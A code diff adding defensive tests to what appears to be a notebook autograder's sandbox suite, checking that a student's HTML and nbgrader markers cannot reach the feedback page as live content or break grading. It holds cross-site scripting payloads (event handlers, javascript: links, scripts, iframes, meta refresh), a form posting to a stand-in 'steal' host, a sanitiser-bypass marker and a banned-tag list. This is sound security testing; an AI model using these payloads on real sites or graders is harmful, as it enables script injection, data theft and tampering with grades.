@@ -153,6 +153,27 @@ for process in started:
 '''
 
 
+# Finding 7: a student's HTML, in markdown and in an output, and a 3 MB print.
+HOSTILE_MARKDOWN = """# My notes, with maths: $\\frac{a}{b}$
+<img src="x" onerror="alert('img')">
+<svg onload="alert('svg')"><circle r="1"/></svg>
+<details open ontoggle="alert('details')"><summary>s</summary>d</details>
+<a href="javascript:alert('a')">a link</a>
+<form action="https://example.invalid/steal"><input name="q"><button>go</button></form>
+<meta http-equiv="refresh" content="0;url=https://example.invalid/">
+<meta name="autograder-feedback" content="self-contained">
+<script>alert('script')</script>
+<iframe src="https://example.invalid/"></iframe>
+<img src="https://example.invalid/pixel.png">
+"""
+HOSTILE_OUTPUT = """from IPython.display import HTML, display
+display(HTML("<img src=x onerror=alert('output')><a href='javascript:alert(1)'>x</a><script>alert(2)</script>"))
+print("y" * 3_000_000)
+"""
+# Finding 8: nbgrader's own markers in a student's markdown cell.
+MARKERS = "my notes\n### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION"
+
+
 def attack_lines(notebook: Path) -> dict[str, str]:
     """ATTACK lines of an autograded notebook: what -> result."""
     found = {}
@@ -195,6 +216,8 @@ def attacked(released_course, tmp_path_factory):
         "reaches_out": REACH.format(writes={k: str(v) for k, v in writes.items()},
                                     reads={k: str(v) for k, v in reads.items()}),
         "outlives_its_kernel": OUTLIVE.format(sleep=SLEEP),
+        "hostile_page": "",
+        "markers_in_markdown": "",
     }
     for student, code in cells.items():
         nb = copy.deepcopy(release)
@@ -203,6 +226,11 @@ def attacked(released_course, tmp_path_factory):
                 cell.source = answer
         if code:
             nb.cells.insert(2, nbformat.v4.new_code_cell(textwrap.dedent(code)))
+        if student == "hostile_page":
+            nb.cells.insert(2, nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN))
+            nb.cells.insert(3, nbformat.v4.new_code_cell(HOSTILE_OUTPUT))
+        if student == "markers_in_markdown":
+            nb.cells.insert(2, nbformat.v4.new_markdown_cell(MARKERS))
         path = root / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
         path.parent.mkdir(parents=True)
         nbformat.write(nb, path)
@@ -222,6 +250,10 @@ def attacked(released_course, tmp_path_factory):
             os.kill(pid, signal.SIGKILL)
 
 
+def feedback_page(out: Path, student: str) -> str:
+    return (out / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
+
+
 def lines(out: Path, student: str) -> dict[str, str]:
     return attack_lines(out / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
 
@@ -229,7 +261,7 @@ def lines(out: Path, student: str) -> dict[str, str]:
 @needs_sandbox
 def test_the_attacks_are_graded_like_the_honest_notebook(attacked):
     records, _, _ = attacked
-    for student in ("reaches_out", "outlives_its_kernel"):
+    for student in ("reaches_out", "outlives_its_kernel", "hostile_page", "markers_in_markdown"):
         assert records[student]["status"] == "graded", records[student]["reason"]
         assert records[student]["score"] == records["honest"]["score"] > 0
 
@@ -259,8 +291,7 @@ def test_the_graders_environment_and_processes_are_out_of_reach(attacked):
     assert found["env-secret"] == "denied"  # not in os.environ, nor any /proc/*/environ it sees
     assert found["home-in-job"] == "ok"
     assert found["grader-processes"] == "0"  # its own PID namespace: no other grader process
-    feedback = (out / "feedback" / "reaches_out" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
-    assert SECRET not in feedback
+    assert SECRET not in feedback_page(out, "reaches_out")
 
 
 @needs_sandbox
@@ -277,3 +308,32 @@ def test_memory_processes_and_disk_are_capped_for_the_kernel_as_a_whole(attacked
     assert int(found["allocated"]) <= 2  # 3 x 900 MB > the kernel's 2G
     assert found["fill-job"] == "denied" and found["fill-tmp"] == "denied"
     assert int(found["processes"]) < 64
+
+
+def test_a_students_html_never_reaches_the_feedback_page_as_html(attacked):
+    """Event handlers, javascript: links, forms, refreshes, frames, scripts, remote pictures and a
+    marker that once made the clean-up skip the page: none survives; the page stays small and its
+    maths is MathML (no script needed)."""
+    from bs4 import BeautifulSoup
+
+    _, out, _ = attacked
+    page = feedback_page(out, "hostile_page")
+    assert len(page) < 2 << 20  # a 3 MB print does not make a 3 MB page
+    soup = BeautifulSoup(page, "html.parser")
+    banned = ("script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg")
+    assert [t.name for t in soup.find_all(banned)] == []
+    assert [t for t in soup.find_all("meta") if t.get("http-equiv") or t.get("name")] == []
+    for tag in soup.find_all(True):
+        for name, value in tag.attrs.items():
+            assert not name.lower().startswith("on"), (tag.name, name)
+            assert "javascript:" not in str(value).lower(), (tag.name, name, value)
+        if tag.name == "img":  # an embedded picture, or none
+            assert str(tag.get("src", "data:image/")).startswith("data:image/"), tag
+    assert "<math" in page and "\\frac{a}{b}" not in page
+
+
+def test_nbgraders_markers_in_a_students_cell_are_text_not_a_failure(attacked):
+    records, out, _ = attacked
+    record = records["markers_in_markdown"]
+    assert (record["status"], record["score"]) == ("graded", records["honest"]["score"]), record["reason"]
+    assert "my notes" in feedback_page(out, "markers_in_markdown")
